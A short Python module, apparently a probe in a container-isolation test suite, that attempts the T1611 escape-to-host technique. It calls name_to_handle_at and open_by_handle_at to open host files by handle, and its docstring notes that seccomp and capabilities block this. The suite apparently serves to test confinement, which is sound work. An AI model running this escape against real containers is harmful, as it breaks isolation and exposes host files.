"""Open a file of the host by its handle.

gain: every file on a disk of which one folder is shown
attack: T1611
stopped by: seccomp, capabilities
unconfined: host
"""

import ctypes
import os
import struct

from attacker import call


def attempt(world):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, world["work"].encode(), handle, ctypes.byref(mount), 0)
    place = os.open(world["work"], os.O_RDONLY | os.O_DIRECTORY)
    call("open_by_handle_at", place, handle, os.O_RDONLY)
    return "opened a file by its handle, and so any on that disk"
